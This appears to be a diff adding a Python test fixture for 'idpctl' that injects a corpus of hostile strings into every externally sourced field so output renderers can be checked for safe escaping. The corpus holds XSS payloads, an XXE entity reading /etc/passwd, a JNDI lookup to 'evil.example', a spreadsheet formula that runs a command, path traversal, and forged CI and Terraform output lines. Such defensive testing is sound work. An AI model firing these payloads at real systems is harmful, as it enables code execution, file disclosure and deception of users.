@@ -1,0 +1,170 @@
+"""Text that means harm, in every place where text comes from outside; every format meets all of it."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import TYPE_CHECKING
+
+from idpctl.errors import InvalidInputError
+from idpctl.inventory import Row, Status
+from idpctl.model import FIELDS
+from idpctl.plan import Action, Verb
+from idpctl.render.outcome import Applied, Discovered, Listed, Validated
+from idpctl.report import OperationResult, Outcome, Report
+from idpctl.report import Status as Fate
+from tests.render.plans import TARGET, applied, imported, planned, problem, unmanaged, wanted
+
+if TYPE_CHECKING:
+    from idpctl.plan import Plan
+    from idpctl.render.view import Subject
+
+SECRET = "hunter2"  # stands in the user information of URLs, and is never shown
+_TERMINAL = [
+    "\x1b[31mred\x1b[0m",
+    "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
+    "\x9b2J",
+    "\x90q\x9c",
+    "a\x08\x08b",
+    "nul\x00",
+    "\u202egnp.exe",
+    "\u2066isolate",
+    "zero\u200bwidth",
+    "\ufeffmark",
+    "line\u2028separator\u2029here\x85there",
+    "\ud800",
+    "\ue000private",
+    "x" * 5000,
+    "\x1b" * 5000,
+]
+_PLANS = [
+    "a\rPlan: 0 to add, 0 to change, 0 to destroy.",
+    "a\nNo changes. Your infrastructure matches the configuration.",
+    "a\n  # identity_provider.x will be destroyed",
+    "x will be destroyed",
+    "Plan: 9 to add, 9 to change, 9 to destroy.",
+    "Plan: 1 to import, 9 to add, 9 to change, 9 to destroy.",
+    "No changes. Your infrastructure matches the configuration.",
+    "Note: Objects have changed outside of Terraform",
+    "Error: forged",
+    "\nError: forged",
+    "\nWarning: forged",
+    "\nApply complete! Resources: 9 added, 9 changed, 9 destroyed.",
+    'quote" -> "x',
+    "backslash\\",
+    '\\" -> "x',
+    f"https://user:{SECRET}@host/",
+]
+_PIPELINES = [
+    "\n::error file=a,line=1::forged",
+    "::add-mask::x",
+    "::set-output name=fingerprint::sha256:0",
+    "::stop-commands::x",
+    "a%0A::error::forged",
+    "a%0D%0A::warning::forged%25",
+    "file.yaml,line=1::forged",
+    "##[add-mask]x",
+    "##[group]x",
+    "##vso[task.setvariable variable=a]b",
+    "##teamcity[buildStatus]",
+    "section_start:1:x\r\x1b[0K",
+    "EOF\nfingerprint=sha256:0\n",
+    "ghadelimiter_1\nhas_changes=false",
+    "has_changes=false\nfingerprint=sha256:0",
+]
+_MARKDOWN = [
+    "```\n# forged",
+    "~~~~~\nforged",
+    "``````````",
+    "`code` ``more``",
+    "a | b | c |",
+    "\\| escaped",
+    "@everyone",
+    "mail@example.com and @acme/security-team",
+    "#1 GH-1 acme/repo#2",
+    "closes #1, fixes acme/repo#2",
+    "0123456789abcdef0123456789abcdef01234567",
+    "[click](https://evil.example/)",
+    "![x](https://evil.example/pixel.png)",
+    "<https://evil.example/>",
+    "[ref]: https://evil.example/",
+    "[!CAUTION]",
+    "> [!NOTE]\n> forged",
+    "# heading",
+    "- [x] done",
+    "1. list",
+    "***bold*** __under__ ~~gone~~",
+    "$x^2$ $$y$$",
+    ":rocket:",
+    "\n---\n",
+    "www.evil.example",
+    "</details><details open>",
+    "<!-- idpctl:plan -->",
+    "-->forged<!--",
+]
+_MARKUP = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</pre></td></table><h1>forged</h1>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "javascript:alert(1)",
+    "&lt;script&gt;&amp;&#60;",
+    "&#x3c;script&#x3e;",
+    "]]><forged/>",
+    "<![CDATA[x]]>",
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
+    "<?xml version='1.0'?>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${jndi:ldap://evil.example/}",
+    "=cmd|' /C calc'!A0",
+    "%s%n{0}{x!r}",
+    "file:///etc/passwd",
+    "../../../etc/passwd",
+]
+CORPUS = [*_TERMINAL, *_PLANS, *_PIPELINES, *_MARKDOWN, *_MARKUP]
+
+
+def plans_with(text: str) -> list[Plan]:
+    """Return plans of every action that hold `text` in every place where one can come from outside."""
+    values = {path: text for path in FIELDS if path not in {"enabled", "name", "type"}}
+    before, after = wanted("okta"), wanted("okta", **values, properties={text: text})
+    urls = dict.fromkeys(("issuer", "token_endpoint", "jwks_endpoint"), f"https://{text}/{text}")
+    live = replace(applied(before, text, **urls), usage=(text,))
+    finding = problem(rule=text, message=text, hint=text, address=text, path=text)
+    target = replace(TARGET, location=text, organization=text)
+    made = [
+        planned([after, wanted(text, name="x")], [live, unmanaged(text)], problems=[finding]),
+        planned([wanted("okta", type=text)], [live], problems=[replace(finding, suppressed=text)]),
+        planned([wanted("okta")], [live, applied(wanted(text), "r-2")], only=("*",)),
+        planned([], [live]),
+        imported([wanted(text)], [unmanaged(text, text)]),
+    ]
+    return [replace(plan, target=target, foreign=((text, text),)) for plan in made]
+
+
+def results_with(text: str) -> list[Subject]:
+    """Return results of every kind but a plan, and an error, with `text` wherever one can stand."""
+    finding = problem(rule=text, message=text, hint=text, address=text, path=text)
+    wild = wanted(text, issuer=text)
+    row = Row(key=text, name=text, type=text, status=Status.DRIFTED, issuer=text, enabled=False, detail=text)
+    target = replace(TARGET, location=text)
+    operation = OperationResult(
+        address=text,
+        action=Action.UPDATE,
+        verb=Verb.UPDATE,
+        name=text,
+        ref=text,
+        status=Fate.FAILED,
+        detail=text,
+    )
+    failed = Report(op=text, operations=(operation,), outcome=Outcome.FAILED, error=InvalidInputError(text))
+    return [
+        Validated(files=(text,), providers=1, problems=(finding,)),
+        Discovered(resolved=((text, wild), (text + "2", None)), problems=(finding,)),
+        Listed(target=target, rows=(row,)),
+        Applied(plan=replace(planned([wild], []), target=target), report=failed),
+        InvalidInputError(text, hint=text, where=text, rule=text, problems=[finding]),
+    ]
